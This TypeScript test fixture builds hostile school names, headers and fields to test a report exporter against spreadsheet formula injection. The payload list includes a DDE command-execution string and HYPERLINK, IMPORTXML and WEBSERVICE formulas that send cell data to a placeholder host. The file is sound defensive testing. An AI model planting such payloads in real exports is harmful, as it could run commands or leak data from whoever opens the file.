/** Names that nobody gives a school in good faith, and numbers that must survive beside them. */
import type { Report } from '../../src/report/report.js';
import { sampleReport } from '../fixtures/sampleReport.js';

const STARTS = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'] as const;
const PREFIXES = ['', '', '', "'", "''", ' ', '\u00a0', '\u3000', '\ufeff', '\u200b', '"', '\u0000', '\u000b'] as const;
const PAYLOADS = [
  '1+1', 'HYPERLINK("http://example.invalid/?"&A1,"点")', "cmd|' /C calc'!A0", 'SUM(1;2)', 'IMPORTXML(CONCAT("http://example.invalid/",A1),"//a")', 'WEBSERVICE("http://example.invalid")',
  '12.5.3', '86-1380000', '高州市第一小学', '中心校"甲"', 'a,b;c\td', 'x\r\n=1+1', '_x003D_1+1', '_x000D_', '\ud800', 'é€𠮷\u{1f3eb}', '</t></si><f>1+1</f>', ']]>', '&#61;1+1', '\ufffe', '',
] as const;

/** `count` texts: a start of a formula (or none) behind a prefix (or none), then something to run. Seeded. */
export function hostileTexts(count: number, seed = 7): string[] {
  let state = seed;
  const pick = <T>(list: readonly T[]): T => {
    state = (state * 48_271) % 2_147_483_647;
    return list[state % list.length]!;
  };
  return Array.from({ length: count }, (_, index) => `${pick(PREFIXES)}${pick([...STARTS, ''])}${pick(PAYLOADS)}${index % 3 === 0 ? index : ''}`);
}

/** Numbers as a spreadsheet or a statistics program writes them; to stay as they are. */
export const NUMBERS = ['-12.5', '+3', '-0', '-.5', '+1.', '-1,234,567.89', '-1e5', '+1.5E-3', '-5%', ' -3 ', '0', '7.10', '-007'] as const;

/** A report of `count` schools whose every text of the input is hostile; the last columns are hostile texts and numbers. */
export function hostileReport(count: number): Report {
  const sample = sampleReport({ schools: count, lang: 'zh', violations: true });
  const names = hostileTexts(count);
  const others = hostileTexts(count, 11);
  const schools = sample.schools.map((school, index) => {
    const [name, id] = [names[index]!, `${others[index]!}#${index}`];
    return { ...school, name, id, row: [id, name, others[index]!, NUMBERS[index % NUMBERS.length]!, '-12.5'] };
  });
  return {
    ...sample,
    title: '=1+1',
    schools,
    headers: ['学校代码', '=HYPERLINK("http://example.invalid")', '＝备注', '数', '-12.5'],
    districts: sample.districts.map((district) => ({ ...district, name: `=${district.name}`, townships: ['@SUM(1)', '+1+1'] })),
    clauses: sample.clauses.map((clause) => ({ ...clause, quote: `=${clause.quote}`, evidence: ['=1+1', '@x'] })),
    violations: sample.violations.map((violation) => ({ ...violation, text: `+${violation.text}` })),
    assumptions: ['=1+1'],
    settings: [{ key: '=k', value: '-1+1', meaning: '@m' }],
    reproduce: { ...sample.reproduce, command: '=cmd', preset: '+p', files: [{ name: '=f.csv', sha256: 'a'.repeat(64) }] },
  };
}
